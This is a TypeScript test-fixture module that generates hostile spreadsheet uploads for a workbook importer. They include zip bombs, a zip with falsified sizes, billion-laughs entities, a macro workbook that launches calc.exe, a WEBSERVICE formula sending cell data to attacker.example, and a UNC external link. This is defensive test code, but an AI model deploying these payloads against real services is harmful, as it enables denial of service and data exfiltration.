import ExcelJS from 'exceljs';
import { createDeflateRaw } from 'node:zlib';
import { deflateSync, strToU8, unzipSync, Zip, ZipDeflate, zipSync } from 'fflate';
import { createWriteStream } from 'node:fs';
import { once } from 'node:events';

/*
 * Hostile upload files of issue 9 point 2, built in the tests (no hand-made binaries are kept):
 * each is a real workbook (or CSV) with one hostile feature. Large ones are streamed to disk so
 * the test process never holds their expanded content.
 */

export const TEMPLATE_HEADER = ['指標ID', '指標名', 'SDGターゲット', '時点', '値', '単位', '備考', '出典'];

/** A small valid template workbook (one actual of new-farmers), unzipped into its parts. */
export async function templateParts(rows: readonly (string | number | { formula: string; result?: number | string })[][] = [['new-farmers', '', '', '2040年', 1, '人']], header: readonly string[] = TEMPLATE_HEADER): Promise<Record<string, Uint8Array>> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('実績');
  ws.addRow([...header]);
  for (const r of rows) ws.addRow(r as ExcelJS.CellValue[]);
  return unzipSync(new Uint8Array(await wb.xlsx.writeBuffer()));
}

/** The parts zipped again (deflated), optionally with parts added or replaced. */
export function rezip(parts: Record<string, Uint8Array>, extra: Record<string, Uint8Array | string> = {}): Uint8Array {
  const all: Record<string, Uint8Array> = { ...parts };
  for (const [k, v] of Object.entries(extra)) all[k] = typeof v === 'string' ? strToU8(v) : v;
  return zipSync(all, { level: 6 });
}

/** A sheet part holding the template header and rows of cells given as XML. */
function sheetXml(body: string): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData>${body}</sheetData></worksheet>`;
}

/**
 * The issue's 2.4 MB workbook holding 287 MB of shared strings (distinct, so they compress only
 * about 100×), streamed into a zip file at `path`. The sizes in the zip are true.
 */
export async function sharedStringsBomb(path: string, megabytes = 287): Promise<void> {
  const parts = await templateParts();
  const out = createWriteStream(path);
  const zip = new Zip((err, chunk) => {
    if (err) throw err;
    out.write(chunk);
  });
  for (const [name, data] of Object.entries(parts)) {
    if (name === 'xl/sharedStrings.xml') continue;
    const f = new ZipDeflate(name, { level: 1 });
    zip.add(f);
    f.push(data, true);
  }
  const ss = new ZipDeflate('xl/sharedStrings.xml', { level: 6 });
  zip.add(ss);
  const perString = 1000;
  const count = Math.ceil((megabytes * 1024 * 1024) / (perString + 16));
  ss.push(strToU8(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${count}" uniqueCount="${count}">`));
  // Template strings first (ExcelJS wrote them as shared strings), then filler.
  const head = TEMPLATE_HEADER.concat(['new-farmers', '2040年', '人']).map((s) => `<si><t>${s}</t></si>`).join('');
  ss.push(strToU8(head));
  const filler = 'abcdefghijklmnopqrstuvwxyz0123456789'.repeat(Math.ceil(perString / 36));
  const batch: string[] = [];
  for (let i = 0; i < count; i++) {
    // A distinct number every few characters keeps deflate near the issue's ratio (~120×).
    const s = filler.replace(/[0-9]{10}/g, () => String((i * 7919 + batch.length * 104729) % 9_999_999_967).padStart(10, '0')).slice(0, perString);
    batch.push(`<si><t>${s}</t></si>`);
    if (batch.length === 500) {
      ss.push(strToU8(batch.join('')));
      batch.length = 0;
      if (!out.writableNeedDrain) continue;
      await once(out, 'drain');
    }
  }
  ss.push(strToU8(`${batch.join('')}</sst>`), true);
  zip.end();
  out.end();
  await once(out, 'finish');
}

/**
 * A workbook of about 5 MB with `cells` numeric cells in 10 columns (the issue's 4.9 MB workbook
 * that froze every request for 6–15 s), written straight as XML.
 */
export async function manyCellsWorkbook(cells = 1_200_000): Promise<Uint8Array> {
  const parts = await templateParts();
  const rows: string[] = [];
  const cols = 'ABCDEFGHIJ';
  for (let r = 0; r < cells / 10; r++) {
    let row = `<row r="${r + 1}">`;
    for (let c = 0; c < 10; c++) row += `<c r="${cols[c]}${r + 1}"><v>${(r * 7 + c * 13) % 1000}</v></c>`;
    rows.push(`${row}</row>`);
  }
  return rezip(parts, { 'xl/worksheets/sheet1.xml': sheetXml(rows.join('')) });
}

/**
 * A zip of about 1 MB whose one worksheet entry says it holds 1,000 bytes but inflates to
 * `megabytes` MB (the issue's zip that stalled the server 2–4 s and added 460 MB). Written by hand
 * so the central directory and the local header carry the lie.
 */
export async function lyingZip(megabytes = 1024): Promise<Uint8Array> {
  // zlib's native deflate: fflate would take a minute over 1 GB.
  const chunks: Uint8Array[] = [];
  const deflate = createDeflateRaw({ level: 9 });
  deflate.on('data', (c: Buffer) => chunks.push(c));
  const spaces = Buffer.alloc(1024 * 1024, 0x20);
  for (let i = 0; i < megabytes; i++) if (!deflate.write(spaces)) await once(deflate, 'drain');
  deflate.end();
  await once(deflate, 'end');
  const data = concat(chunks);
  return rawZip([{ name: 'xl/worksheets/sheet1.xml', method: 8, data, declaredSize: 1000, crc: 0 }]);
}

/** A zip written entry by entry with the sizes given (true or not). */
export function rawZip(entries: readonly { name: string; method: 0 | 8; data: Uint8Array; declaredSize: number; crc: number }[]): Uint8Array {
  const locals: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = strToU8(e.name);
    const lh = new Uint8Array(30 + name.length);
    const lv = new DataView(lh.buffer);
    lv.setUint32(0, 0x04034b50, true);
    lv.setUint16(4, 20, true);
    lv.setUint16(8, e.method, true);
    lv.setUint32(14, e.crc, true);
    lv.setUint32(18, e.data.length, true);
    lv.setUint32(22, e.declaredSize, true);
    lv.setUint16(26, name.length, true);
    lh.set(name, 30);
    const ch = new Uint8Array(46 + name.length);
    const cv = new DataView(ch.buffer);
    cv.setUint32(0, 0x02014b50, true);
    cv.setUint16(4, 20, true);
    cv.setUint16(6, 20, true);
    cv.setUint16(10, e.method, true);
    cv.setUint32(16, e.crc, true);
    cv.setUint32(20, e.data.length, true);
    cv.setUint32(24, e.declaredSize, true);
    cv.setUint16(28, name.length, true);
    cv.setUint32(42, offset, true);
    ch.set(name, 46);
    locals.push(lh, e.data);
    central.push(ch);
    offset += lh.length + e.data.length;
  }
  const cd = concat(central);
  const eocd = new Uint8Array(22);
  const ev = new DataView(eocd.buffer);
  ev.setUint32(0, 0x06054b50, true);
  ev.setUint16(8, entries.length, true);
  ev.setUint16(10, entries.length, true);
  ev.setUint32(12, cd.length, true);
  ev.setUint32(16, offset, true);
  return concat([...locals, cd, eocd]);
}

/** A macro-enabled workbook saved as .xlsx: the template with xl/vbaProject.bin. */
export async function macroWorkbook(): Promise<Uint8Array> {
  const parts = await templateParts();
  const types = new TextDecoder().decode(parts['[Content_Types].xml']!).replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>');
  return rezip(parts, { 'xl/vbaProject.bin': deflateSync(strToU8('Attribute VB_Name = "ThisWorkbook"\nSub Workbook_Open()\nShell "calc.exe"\nEnd Sub')), '[Content_Types].xml': types });
}

/** A workbook whose value cell calls WEBSERVICE (sends a cell's content to a server when recalculated). */
export async function webserviceWorkbook(formula = '_xlfn.WEBSERVICE("http://attacker.example/?"&A2)'): Promise<Uint8Array> {
  return rezip(await templateParts([['new-farmers', '', '', '2040年', { formula, result: 1 }, '人']]));
}

/** A workbook linking another workbook (an xl/externalLinks/ part, as Excel writes for `[1]Sheet1!A1`). */
export async function externalLinkWorkbook(): Promise<Uint8Array> {
  const link = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>`;
  const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\attacker.example\\share\\book.xlsx" TargetMode="External"/></Relationships>`;
  return rezip(await templateParts([['new-farmers', '', '', '2040年', { formula: '[1]Sheet1!A1', result: 1 }, '人']]), {
    'xl/externalLinks/externalLink1.xml': link,
    'xl/externalLinks/_rels/externalLink1.xml.rels': rels,
  });
}

/** A worksheet whose XML nests `depth` elements (a parser recursing per level runs out of stack). */
export async function deepXmlWorkbook(depth = 100_000): Promise<Uint8Array> {
  const parts = await templateParts();
  const sheet = new TextDecoder().decode(parts['xl/worksheets/sheet1.xml']!);
  return rezip(parts, { 'xl/worksheets/sheet1.xml': sheet.replace('</worksheet>', `<extLst>${'<ext>'.repeat(depth)}${'</ext>'.repeat(depth)}</extLst></worksheet>`) });
}

/** A worksheet with a DOCTYPE declaring entities (billion laughs: a few kB that expand to GBs). */
export async function entityWorkbook(): Promise<Uint8Array> {
  const parts = await templateParts();
  const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
  const sheet = new TextDecoder().decode(parts['xl/worksheets/sheet1.xml']!).replace(/^(<\?xml[^>]*\?>)/, `$1<!DOCTYPE worksheet [<!ENTITY l0 "lol">${levels}]>`);
  return rezip(parts, { 'xl/worksheets/sheet1.xml': sheet.replace('<f>', '<f>').replace('</sheetData>', '<row r="9"><c r="A9" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData>') });
}

/** A workbook with one cell of `length` characters (Excel holds at most 32,767 in a cell). */
export async function longCellWorkbook(length = 5_000_000): Promise<Uint8Array> {
  return rezip(await templateParts([['new-farmers', '', '', '2040年', 1, '人', 'x'.repeat(length)]]));
}

/** A workbook with a cell in column `column` (XFD is Excel's last, 16,384). */
export async function farColumnWorkbook(column = 'XFD'): Promise<Uint8Array> {
  const parts = await templateParts();
  const sheet = new TextDecoder().decode(parts['xl/worksheets/sheet1.xml']!);
  return rezip(parts, { 'xl/worksheets/sheet1.xml': sheet.replace('</sheetData>', `<row r="3"><c r="${column}3"><v>1</v></c></row></sheetData>`) });
}

/** A workbook with `count` tiny shared strings (each costs an object in a reader). */
export async function manySharedStringsWorkbook(count = 3_000_000): Promise<Uint8Array> {
  const parts = await templateParts();
  const ss = new TextDecoder().decode(parts['xl/sharedStrings.xml']!);
  return rezip(parts, { 'xl/sharedStrings.xml': ss.replace('</sst>', `${'<si><t>x</t></si>'.repeat(count)}</sst>`) });
}

/** A CSV whose second line holds `columns` cells. */
export function wideCsv(columns = 1_000_000): string {
  return `${TEMPLATE_HEADER.join(',')}\nnew-farmers,,,2040年,1,人${',x'.repeat(columns)}\n`;
}

function concat(chunks: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
  let o = 0;
  for (const c of chunks) {
    out.set(c, o);
    o += c.length;
  }
  return out;
}
